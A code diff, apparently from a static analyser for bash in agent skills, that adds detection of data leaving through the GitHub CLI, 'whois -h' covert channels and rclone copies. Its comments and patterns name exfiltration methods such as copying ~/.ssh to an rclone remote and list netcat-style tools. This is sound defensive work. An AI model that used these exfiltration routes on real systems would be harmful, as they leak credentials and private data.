@@ -413,6 +413,20 @@ export class BashWalker extends WalkerBase {
       return EMPTY;
     }
     if (program === 'curl' || program === 'wget') return this.transfer(node, program, words, stdin);
+    if (program === 'gh') {
+      this.githubUpload(node, words, stdin);
+      return EMPTY;
+    }
+    // `whois -h host QUERY` sends the query to a host the skill picks: a covert channel.
+    if (program === 'whois') {
+      const at = texts.indexOf('-h');
+      const host = at > 0 ? texts[at + 1] : undefined;
+      if (host) {
+        const sink = this.recorder.sink('socket', `\`whois\` to ${host}`, node.startIndex, node.endIndex, host);
+        for (const word of words.slice(1)) if (word.value.text !== host && word.value.text !== '-h') this.reachSink(word.value, sink, 'payload');
+      }
+      return EMPTY;
+    }
     if (/^(?:nc|ncat|netcat|socat|telnet)$/.test(program)) {
       const host = texts.slice(1).find((text) => !text.startsWith('-') && /[a-z.]/i.test(text));
       this.reachSink(union(stdin, ...words.slice(1).map((word) => word.value)), this.recorder.sink('socket', `\`${program}\` to ${host ?? 'a remote host'}`, node.startIndex, node.endIndex, host), 'payload');
@@ -542,6 +556,54 @@ export class BashWalker extends WalkerBase {
     this.reachSink(outside, this.recorder.sink('executor', description, node.startIndex, node.endIndex), 'code');
   }
 
+  /**
+   * The GitHub CLI publishes what it is given: `gh gist create FILE…`, `gh release upload TAG
+   * FILE…`, the body or notes of an issue, pull request, comment or release (`--body TEXT`,
+   * `--body-file FILE`, `-F -` for stdin), and `gh api` fields (`-f key=TEXT`, `-F key=@FILE`,
+   * `--input FILE`). Each reaches the GitHub account the CLI is signed in to, or a repository the
+   * skill names.
+   */
+  private githubUpload(node: Node, words: readonly { node: Node; value: AbstractValue }[], stdin: AbstractValue): void {
+    const texts = words.map((word) => word.value.text ?? '*');
+    const [, group, action] = texts;
+    const repository = texts[texts.findIndex((text) => text === '--repo' || text === '-R') + 1];
+    const sink = this.recorder.sink('network', `\`gh ${group ?? ''}\`${repository && texts.includes('--repo') ? ` to ${repository}` : ' to GitHub'}`, node.startIndex, node.endIndex, 'github.com');
+    const fileValue = (index: number): AbstractValue => {
+      const word = words[index];
+      if (!word) return EMPTY;
+      return word.value.text === '-' ? stdin : union(word.value, this.recorder.readFile(word.value.text, word.node.startIndex, word.node.endIndex));
+    };
+    if ((group === 'gist' && action === 'create') || (group === 'release' && action === 'upload')) {
+      const first = group === 'gist' ? 3 : 4;
+      for (let index = first; index < words.length; index++) {
+        const text = texts[index] ?? '';
+        if (text.startsWith('-')) {
+          if (/^(?:-d|--desc|-f|--filename|-R|--repo)$/.test(text)) index++;
+          continue;
+        }
+        this.reachSink(fileValue(index), sink, 'payload');
+      }
+      // `gh gist create` with no file reads stdin.
+      if (group === 'gist' && !texts.slice(3).some((text) => !text.startsWith('-'))) this.reachSink(stdin, sink, 'payload');
+      return;
+    }
+    // `gh secret set NAME --body "$TOKEN"` stores a secret in the user's repository, encrypted:
+    // what it is for, not a leak. Only what is published in text is followed.
+    if (group !== 'issue' && group !== 'pr' && group !== 'api' && group !== 'release' && group !== 'discussion') return;
+    for (let index = 2; index < words.length; index++) {
+      const text = texts[index] ?? '';
+      if (/^(?:-b|--body|-t|--title|-n|--notes)$/.test(text)) this.reachSink(words[index + 1]?.value ?? EMPTY, sink, 'payload');
+      else if (/^(?:--body-file|--notes-file|--input)$/.test(text) || (group !== 'api' && text === '-F')) this.reachSink(fileValue(index + 1), sink, 'payload');
+      else if (group === 'api' && /^(?:-f|-F|--field|--raw-field)$/.test(text)) {
+        const field = words[index + 1];
+        const value = /^[^=]{1,60}=@(.+)$/s.exec(field?.value.text ?? '')?.[1];
+        if (value === '-') this.reachSink(stdin, sink, 'payload');
+        else if (value !== undefined && field) this.reachSink(union(field.value, this.recorder.readFile(value, field.node.startIndex, field.node.endIndex)), sink, 'payload');
+        else if (field) this.reachSink(field.value, sink, 'payload');
+      }
+    }
+  }
+
   /** curl and wget: uploads are sinks; the output is downloaded data. */
   private transfer(node: Node, program: string, words: readonly { node: Node; value: AbstractValue }[], stdin: AbstractValue): AbstractValue {
     const texts = words.map((word) => word.value.text ?? '*');
@@ -663,6 +725,15 @@ function bucketUpload(texts: readonly string[]): { readonly source: number; read
     const source = operands.length >= 2 ? operands[operands.length - 2] : undefined;
     if (!destination || !source || !/^(?:s3|gs):\/\//.test(destination.text) || /^(?:s3|gs):\/\//.test(source.text)) return undefined;
     return { source: source.index, bucket: destination.text.replace(/^((?:s3|gs):\/\/[^/]+).*$/, '$1') };
+  }
+  // `rclone copy ~/.ssh drop:loot`: a remote named in the user's rclone config.
+  if (program === 'rclone' && /^(?:copy|copyto|sync|move|moveto)$/.test(texts[1] ?? '')) {
+    const operands = texts.map((text, index) => ({ text: unquote(text), index })).filter(({ text, index }) => index > 1 && !text.startsWith('-'));
+    const destination = operands[operands.length - 1];
+    const source = operands.length >= 2 ? operands[operands.length - 2] : undefined;
+    const remote = /^([\w.-]{1,60}):/.exec(destination?.text ?? '')?.[1];
+    if (!source || !remote || /^[\w.-]{1,60}:/.test(source.text)) return undefined;
+    return { source: source.index, bucket: `${remote}:` };
   }
   if (program === 'az' && texts[1] === 'storage' && texts[2] === 'blob' && texts[3] === 'upload') {
     const file = texts.findIndex((text) => text === '--file' || text === '-f');
